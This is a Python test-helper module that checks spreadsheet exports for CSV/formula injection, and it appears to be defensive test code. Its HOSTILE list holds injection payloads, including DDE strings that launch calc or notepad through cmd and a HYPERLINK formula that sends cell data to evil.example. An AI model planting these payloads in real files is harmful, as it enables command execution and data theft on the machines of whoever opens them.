"""What a spreadsheet would run, and every cell of an exported file checked against it.

The oracle is written apart from `diemcau.text.spreadsheet_safe` on purpose: a
cell is dangerous when Excel or LibreOffice would read it as a formula — it
starts with ``= + - @`` (or their full-width forms, which some locales fold to
ASCII), with a tab or carriage return, or with other whitespace before any of
those — unless it starts with the neutralising single quote, or it is a plain
number (a negative count is data, not a formula).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from typing import Any

from openpyxl import load_workbook

__all__ = ["HOSTILE", "csv_cells", "dangerous", "xlsx_cells"]

TRIGGERS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
# What XML 1.0 (so XLSX) cannot carry.
XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")
EXCEL_MAX_CELL = 32_767
_NUMBER = re.compile(r"^-?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?$")

# Payloads tried on every export and import (OWASP "CSV injection" and friends).
HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
    "+cmd|' /C notepad'!'B1'",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "-2+3+cmd|' /C calc'!A0",
    "Xã Chuông\x07 Reo\x00\x1b",
    "\ufeffPhường BOM",
    "\ufffeNot a char",
    "'=already quoted",
    "Phường Bến Nghé",
)


def dangerous(text: str) -> bool:
    """Whether a spreadsheet would run this text cell as a formula."""
    if not text or text.startswith("'") or _NUMBER.match(text):
        return False
    if text[0] in ("\t", "\r"):
        return True
    return text.lstrip().startswith(TRIGGERS)


def xlsx_cells(body: bytes) -> Iterator[tuple[str, Any]]:
    """Every cell of every sheet as (reference, value); refuses any formula cell."""
    wb = load_workbook(io.BytesIO(body))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                ref = f"{ws.title}!{cell.coordinate}"
                assert cell.data_type != "f", f"{ref} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    v = cell.value
                    assert len(v) <= EXCEL_MAX_CELL, f"{ref}: {len(v)} characters"
                    assert not XML_ILLEGAL.search(v), f"{ref}: illegal character {v!r:.80}"
                    assert not dangerous(v), f"{ref} would run: {v!r:.80}"
                yield ref, cell.value


def csv_cells(body: bytes) -> Iterator[tuple[str, str]]:
    """Every cell of a CSV export as (line:column, text); refuses a cell that would run."""
    text = body.decode("utf-8-sig")
    assert not text.startswith("\ufeff"), "two byte-order marks"
    for line, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
        for col, cell in enumerate(row, start=1):
            assert not dangerous(cell), f"line {line} column {col} would run: {cell!r:.80}"
            yield f"{line}:{col}", cell
